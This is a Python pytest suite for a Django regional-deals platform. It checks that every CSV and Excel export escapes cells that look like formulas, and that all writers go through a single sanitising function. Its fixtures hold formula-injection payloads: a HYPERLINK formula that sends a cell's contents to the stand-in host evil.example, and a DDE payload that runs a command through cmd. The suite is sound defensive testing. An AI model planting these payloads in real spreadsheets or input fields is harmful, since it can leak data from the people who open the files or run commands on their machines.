"""No CSV or spreadsheet the platform writes holds a live formula. A text that
starts with =, +, -, @, a tab or a carriage return gets an apostrophe before it, in one place
(`common.downloads.safe_cell`); numbers stay numbers. One test per download."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from openpyxl import load_workbook

from regiodeal.audit.services import Actor
from regiodeal.common.downloads import safe_cell
from regiodeal.ideas.services import idea_submit, idea_transition
from tests.factories import make_project, run

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
EVIL_STARTS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]
SRC = Path(__file__).resolve().parents[2] / "src" / "regiodeal"


def _no_formula_text(values) -> None:
    for value in values:
        if isinstance(value, str) and value:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(value), repr(value)


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def _csv_cells(content: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


# --- the one function ---------------------------------------------------------------------------


@pytest.mark.parametrize("text", [EVIL, *EVIL_STARTS])
def test_a_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [Decimal("-1250.00"), -3, 2.5, dt.date(2026, 1, 1), "-1250.00", "+31", "-0.5", "", None, "a=b"]
)
def test_numbers_dates_and_harmless_texts_stay_what_they_are(value):
    assert safe_cell(value) == value and type(safe_cell(value)) is type(value)


def test_a_control_character_an_xlsx_cannot_hold_is_dropped():
    assert safe_cell("Moes\x00tuin\x1b") == "Moestuin"


def test_every_csv_and_workbook_of_the_platform_writes_through_the_one_cell_function():
    """No module but common/downloads.py makes a csv writer; every module that builds a workbook
    appends through common.downloads."""
    for path in SRC.rglob("*.py"):
        if "migrations" in path.parts or path.name == "downloads.py":
            continue
        text = path.read_text(encoding="utf-8")
        tree = ast.parse(text)
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                pytest.fail(f"{path}: csv.{node.attr}; use common.downloads.CsvWriter")
        if "Workbook(" in text:
            assert "regiodeal.common.downloads import" in text and (
                "xlsx_append" in text or "xlsx_cell" in text
            ), path


# --- every download -----------------------------------------------------------------------------


@pytest.fixture
def evil_site(waterwegregio):
    actor = Actor(label="test")
    project = run(make_project(waterwegregio, "WW-009", title=EVIL, lead="SCHIEDAM", pillars=["1"]))
    idea = idea_submit(
        actor=actor,
        deal=waterwegregio,
        title="@SUM(1+1)*cmd|' /C calc'!A0",
        description="-2+3",
        area_code="SCHIEDAM_NIEUWLAND",
    )
    idea_transition(actor=actor, idea=idea, to_status="under_consideration")
    return {"project": project, "idea": idea}


def test_public_projects_csv(evil_site):
    cells = _csv_cells(Client().get("/deals/waterwegregio/public/open-data/projects.csv").content)
    assert "'" + EVIL in cells
    _no_formula_text(cells)


def test_public_ideas_csv(evil_site):
    cells = _csv_cells(Client().get("/deals/waterwegregio/public/open-data/ideas.csv").content)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'-2+3" in cells
    _no_formula_text(cells)


def test_public_money_csv_keeps_amounts_as_numbers(evil_site, book):
    book("national_allocation", "125000.00")
    rows = list(
        csv.DictReader(
            io.StringIO(
                Client()
                .get("/deals/waterwegregio/public/open-data/money-per-line.csv")
                .content.decode("utf-8-sig")
            )
        )
    )
    assert rows[0]["national_granted"] == "125000.00"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_audit_trail_export(evil_site, role_users, fmt):
    client = Client()
    client.force_login(role_users["auditor"])
    response = client.get("/deals/waterwegregio/audit/", {"export": fmt})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    cells = _csv_cells(content) if fmt == "csv" else _xlsx_cells(content)
    assert any(isinstance(c, str) and c.startswith("'=HYPERLINK") for c in cells) or any(
        isinstance(c, str) and EVIL in c for c in cells
    )
    _no_formula_text(cells)


def test_ledger_xlsx(role_users, book):
    book("national_allocation", "1250.00", description=EVIL, source_document="+31 10 123 4567")
    client = Client()
    client.force_login(role_users["programme_office"])
    response = client.get("/deals/waterwegregio/finance/export/ledger.xlsx")
    assert response.status_code == 200
    cells = _xlsx_cells(response.content)
    assert "'" + EVIL in cells and "'+31 10 123 4567" in cells
    assert Decimal("1250.00") in [Decimal(str(c)) for c in cells if isinstance(c, int | float)]
    _no_formula_text(cells)


def test_finance_table_keeps_a_negative_amount_a_number():
    from regiodeal.finance.exports import table_xlsx
    from regiodeal.finance.tables import MONEY, TEXT, Column, Table

    table = Table(
        "t",
        "=titel",
        [Column("omschrijving", TEXT), Column("bedrag", MONEY)],
        [[EVIL, Decimal("-1250.00")], ["-", Decimal("3.50")]],
        note="@note",
    )
    cells = _xlsx_cells(table_xlsx(table, deal_name="=deal", as_of=dt.date(2026, 1, 1)))
    assert -1250 in cells and "'" + EVIL in cells and "'-" in cells and "'@note" in cells
    assert "'=deal: =titel" in cells
    _no_formula_text(cells)


def test_report_xlsx():
    from regiodeal.reporting import document as d
    from regiodeal.reporting.renderers import render_xlsx

    doc = d.Document(
        title="=Rapportage",
        subtitle="+2026",
        facts=[("@feit", "-waarde")],
        blocks=[
            d.Table(
                "projecten",
                "=Projecten",
                [d.Column("titel"), d.Column("bedrag", d.MONEY)],
                [[EVIL, Decimal("-500.00")]],
                note="-noot",
            )
        ],
    )
    cells = _xlsx_cells(render_xlsx({}, doc))
    assert "'" + EVIL in cells and -500 in cells and "'=Rapportage" in cells and "'-noot" in cells
    _no_formula_text(cells)


def test_measurements_xlsx(measurable, role_users):
    from regiodeal.results.models import ResultIndicator
    from regiodeal.results.services import measurement_record

    link = ResultIndicator.objects.select_related("indicator").filter(deal=measurable).first()
    measurement_record(
        actor=Actor(label="test"),
        deal=measurable,
        indicator=link.indicator,
        value=Decimal("-4"),
        on=dt.date(2025, 6, 1),
        source=EVIL,
    )
    client = Client()
    client.force_login(role_users["programme_office"])
    response = client.get(f"/deals/waterwegregio/results/indicators/{link.indicator_id}/", {"export": "xlsx"})
    cells = _xlsx_cells(response.content)
    assert "'" + EVIL in cells and -4 in cells
    _no_formula_text(cells)
